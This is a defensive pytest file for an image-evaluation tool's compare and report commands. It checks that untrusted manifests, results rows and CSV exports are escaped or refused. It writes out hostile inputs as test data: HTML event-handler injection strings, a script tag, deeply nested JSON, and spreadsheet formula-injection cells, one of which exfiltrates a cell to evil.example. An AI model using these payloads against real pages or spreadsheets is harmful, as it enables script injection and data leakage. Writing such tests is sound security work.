"""Files others wrote, read by `dwb evaluate compare` and `dwb evaluate report`: manifests whose values are markup,
prompts outside the shapes grammar beside attribute verdicts, JSON nested thousands deep, cells a spreadsheet
would run as formulas.

Rows are written as `dwb evaluate run` leaves them (a manifest, per-image features, reference statistics, a store
line) by ``scored_rows``; each test then edits what an attacker would edit."""
import csv
import json
from pathlib import Path

import numpy as np
import pytest
import torch

from evaluate.statistics.metrics import FeatureStats
from evaluate.store import ResultsStore

from ..html_elements import Elements

PROMPTS, DIM = 8, 4

ATTRIBUTE_VERDICTS = {"attr_color": True, "attr_shape": False, "attr_count": True, "attr_position": None,
                      "attr_all": False}
HOSTILE_SEED = "1' autofocus onfocus='window.pwned=1' x='"
HOSTILE_COUNT = "<img src=x onerror='window.pwned=2'>"
FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
            "\t=1+1", "\r=1+1")


def _reference(out: Path, rng) -> str:
    stats = FeatureStats(DIM, kid_max=64)
    stats.update(torch.from_numpy(rng.standard_normal((64, DIM))))
    path = out / "cache" / "ref-test.pt"
    path.parent.mkdir(parents=True, exist_ok=True)
    torch.save({**stats.state_dict(), "skipped": 0}, path)
    return str(path)


def scored_rows(out: Path, prompts: list[str], verdicts: bool = False) -> dict[str, Path]:
    """Rows "a" and "b" of one image per prompt, scored as `dwb evaluate run` leaves them; returns their
    manifests by model."""
    rng = np.random.default_rng(0)
    reference = _reference(out, rng)
    manifests = {}
    for model in ("a", "b"):
        folder = out / "samples" / model / "cfg5"
        (folder / "images").mkdir(parents=True)
        lines = [{"prompt": p, "prompt_index": i, "category": "shapes", "image_index": 0, "seed": 100 + i,
                  "checkpoint": f"{model}.pt", "model": model, "guidance": 5.0, "sampler": "ddim", "steps": 2,
                  "width": 16, "height": 16, "path": f"images/{i:05d}-000.png", "checkpoint_hash": f"hash{model}",
                  "weights": "stored", "prompt_set": "set0", "clip_score": float(rng.uniform(20, 30)),
                  **(ATTRIBUTE_VERDICTS if verdicts else {})} for i, p in enumerate(prompts)]
        manifests[model] = folder / "manifest.jsonl"
        manifests[model].write_text("".join(json.dumps(line) + "\n" for line in lines))
        torch.save({"keys": torch.tensor([[i, 0] for i in range(len(prompts))]),
                    "features": {"fid": torch.from_numpy(rng.standard_normal((len(prompts), DIM))).float()},
                    "references": {"fid": reference}}, folder / "features.pt")
        ResultsStore(out).append({"model": model, "checkpoint": f"{model}.pt", "checkpoint_hash": f"hash{model}",
                                  "status": "ok", "step": 0, "guidance": 5.0, "sampler": "ddim",
                                  "n_images": len(prompts), "prompts": "test", "size": 16, "extractor": "test",
                                  "n_reference": 64, "dinov2": None, "samples": f"samples/{model}/cfg5",
                                  "fid": 1.0, "kid_mean": 0.0, "clip_score": 25.0, "seconds_total": 1.0})
    return manifests


def _edit_lines(path: Path, **values) -> None:
    lines = [json.loads(line) for line in path.read_text().splitlines()]
    path.write_text("".join(json.dumps({**line, **values}) + "\n" for line in lines))


def _one_line(r, *needles: str) -> str:
    lines = r.stderr.strip().splitlines()
    assert r.returncode != 0 and "Traceback" not in r.stderr, r.stderr
    assert len(lines) == 1 and all(n in lines[0] for n in needles), r.stderr
    return lines[0]


def _pages(out: Path) -> list[Path]:
    return sorted(out.rglob("*.html"))


SHAPES = ["a red circle", "two blue squares", "a green triangle above a red circle", "three yellow circles"] * 2


def test_a_manifest_seed_of_markup_is_refused_and_no_page_carries_it(tmp_path, dwb):
    manifests = scored_rows(tmp_path, SHAPES)
    for path in manifests.values():  # both sides say the same seed: the pairing alone does not catch it
        _edit_lines(path, seed=HOSTILE_SEED)
    r = dwb("evaluate", "compare", "a", "b", "--out", str(tmp_path), "--bootstrap", "40")
    line = _one_line(r, str(manifests["a"]), "'seed'")
    assert "onfocus" in line  # the value is named as it is: a terminal runs nothing
    for page in _pages(tmp_path):
        assert Elements(page.read_text()).handlers() == []


def test_a_results_row_whose_numbers_are_markup_is_skipped_and_said(tmp_path, dwb, caplog):
    scored_rows(tmp_path, SHAPES)
    store = tmp_path / "results.jsonl"
    rows = [json.loads(line) for line in store.read_text().splitlines()]
    store.write_text("".join(json.dumps({**row, "n_images": HOSTILE_COUNT}) + "\n" for row in rows))
    r = dwb("evaluate", "compare", "a", "b", "--out", str(tmp_path), "--bootstrap", "40")
    assert r.returncode != 0 and "Traceback" not in r.stderr, r.stderr
    assert "results.jsonl line 1: 'n_images' must be a number" in caplog.text and "a has no scored rows" in r.stderr
    r = dwb("evaluate", "report", "--out", str(tmp_path))
    assert r.returncode == 0, r.stderr
    for page in _pages(tmp_path):
        assert Elements(page.read_text()).handlers() == []


def test_every_value_on_the_compare_page_is_escaped_for_its_place(tmp_path):
    """The page's writer, given markup in every field a file could carry (the readers refuse most of it first)."""
    from evaluate.compare_page import ImagePair, _header, pair_figure, raters_part, section_heading, verdict_table

    line = {"prompt": "<script>window.pwned=3</script>", "prompt_index": HOSTILE_SEED, "image_index": HOSTILE_SEED,
            "seed": HOSTILE_SEED, "category": HOSTILE_COUNT, "path": "x'onerror='window.pwned=4.png",
            "width": HOSTILE_COUNT, "height": 16, "clip_score": HOSTILE_COUNT, "prompt_set": "s"}
    page = tmp_path / "compare" / "a-vs-b.html"
    row = {"model": HOSTILE_COUNT, "checkpoint": HOSTILE_SEED, "checkpoint_hash": HOSTILE_COUNT}
    # the page's numbers are computed by `compare` (never read from a file); every text may come from one
    result = {"guidance": 5.0, "sampler_a": HOSTILE_COUNT, "sampler_b": HOSTILE_SEED, "weights_a": HOSTILE_COUNT,
              "n_images": HOSTILE_COUNT, "n_prompts": HOSTILE_SEED, "bootstrap": 40, "replicates": {},
              "overall": {"heading": HOSTILE_COUNT, "families": [{"family": HOSTILE_SEED, "sentence": HOSTILE_COUNT}]},
              "metrics": [{"metric": HOSTILE_SEED, "name": HOSTILE_COUNT, "better": HOSTILE_SEED,
                           "better_holm": HOSTILE_SEED, "a": HOSTILE_COUNT, "b": 1.0, "difference": 0.7, "lo": 0.5,
                           "hi": 0.9, "p": 0.01, "p_holm": 0.02, "replicates": 40, "sentence": HOSTILE_COUNT}]}
    preference = {"study": HOSTILE_SEED, "question": HOSTILE_COUNT, "votes": 3, "decisive": 2, "rate_a": 0.75,
                  "lo": 0.2, "hi": 0.95, "p": 0.4, "model_a": "A"}
    html = "".join([_header(row, row, []), section_heading(result), raters_part([preference]), verdict_table(result),
                    pair_figure(ImagePair(line, dict(line), tmp_path, tmp_path), page, None, ())])
    markup = Elements(html)
    assert markup.handlers() == []
    text = "".join(markup.text)
    assert "<script>window.pwned=3</script>" in text and HOSTILE_COUNT in text  # shown as text
    figure = next(attrs for tag, attrs in markup.elements if tag == "figure")
    assert figure["data-seed"] == HOSTILE_SEED  # an attribute's value stays inside its quotes


def test_a_prompt_outside_the_shapes_grammar_beside_verdicts_is_one_line(tmp_path, dwb):
    prompts = [*SHAPES[:-1], "a purple hexagon juggling"]
    manifests = scored_rows(tmp_path, prompts, verdicts=True)
    r = dwb("evaluate", "compare", "a", "b", "--out", str(tmp_path), "--bootstrap", "40")
    _one_line(r, str(manifests["a"]), "'a purple hexagon juggling'", "not a shapes caption")
    assert not (tmp_path / "compare").exists()


def test_the_same_rows_with_shapes_captions_compare(tmp_path, dwb):
    """The fixture itself compares: what the tests above refuse is the edit, not the rows."""
    scored_rows(tmp_path, SHAPES, verdicts=True)
    r = dwb("evaluate", "compare", "a", "b", "--out", str(tmp_path), "--bootstrap", "40")
    assert r.returncode == 0, r.stderr
    assert len(list((tmp_path / "compare").glob("*.html"))) == 1


def _nested(depth: int) -> str:
    return "[" * depth + "]" * depth


def test_a_results_line_nested_5000_deep_is_skipped_with_its_reason(tmp_path, dwb, caplog):
    scored_rows(tmp_path, SHAPES)
    with (tmp_path / "results.jsonl").open("a") as f:
        f.write('{"model": "deep", "status": "ok", "deep": ' + _nested(5000) + "}\n")
    r = dwb("evaluate", "report", "--out", str(tmp_path))
    assert r.returncode == 0, r.stderr
    assert "results.jsonl line 3: JSON nested deeper than" in caplog.text and "Traceback" not in r.stderr
    assert [row["model"] for row in ResultsStore(tmp_path).rows()] == ["a", "b"]
    assert "<td>a</td>" in (tmp_path / "report" / "index.html").read_text()


def test_a_manifest_line_nested_5000_deep_is_one_line(tmp_path, dwb):
    manifests = scored_rows(tmp_path, SHAPES)
    with manifests["a"].open("a") as f:
        f.write(_nested(5000) + "\n")
    r = dwb("evaluate", "compare", "a", "b", "--out", str(tmp_path), "--bootstrap", "40")
    _one_line(r, f"{manifests['a']} line {len(SHAPES) + 1}", "nested deeper than")


def test_a_comparison_file_nested_deep_or_of_markup_is_left_out_of_the_report(tmp_path, dwb, caplog):
    scored_rows(tmp_path, SHAPES)
    assert dwb("evaluate", "compare", "a", "b", "--out", str(tmp_path), "--bootstrap", "40").returncode == 0
    (tmp_path / "compare" / "deep.json").write_text('{"a": ' + _nested(5000) + "}")
    saved = next(p for p in (tmp_path / "compare").glob("*.json") if p.name != "deep.json")
    hostile = {**json.loads(saved.read_text()), "a": HOSTILE_COUNT, "n_images": HOSTILE_COUNT, "guidance": "x"}
    (tmp_path / "compare" / "markup.json").write_text(json.dumps(hostile))
    settings = {**json.loads(saved.read_text()), "weights_a": [HOSTILE_COUNT]}  # what was scored, of the wrong kind
    (tmp_path / "compare" / "settings.json").write_text(json.dumps(settings))
    r = dwb("evaluate", "report", "--out", str(tmp_path))
    assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr
    assert "deep.json: JSON nested deeper than" in caplog.text and "markup.json: 'guidance'" in caplog.text
    assert "settings.json: 'weights_a' must be text" in caplog.text
    report = (tmp_path / "report" / "index.html").read_text()
    assert Elements(report).handlers() == [] and "A = a, B = b" in report


@pytest.mark.parametrize("formula", FORMULAS)
def test_results_csv_cells_never_start_a_formula(tmp_path, formula):
    store = ResultsStore(tmp_path)
    store.append({"model": formula, "checkpoint": "a.pt", "status": "ok", "step": 0, "guidance": 5.0, "fid": -1.5,
                  "categories": [{"category": formula, "n_prompts": 1, "n_images": 1, "clip_score": 20.0}]})
    path = store.export_csv()
    for name in (path, path.with_name("categories.csv")):
        rows = list(csv.DictReader(name.open(newline="")))
        cell = rows[0]["model"]
        assert cell == "'" + formula, name  # shown as the text it is; the quote is the spreadsheet's own escape
        assert rows[0].get("category", "'" + formula) == "'" + formula
    assert list(csv.DictReader(path.open(newline="")))[0]["fid"] == "-1.5"  # a number stays a number
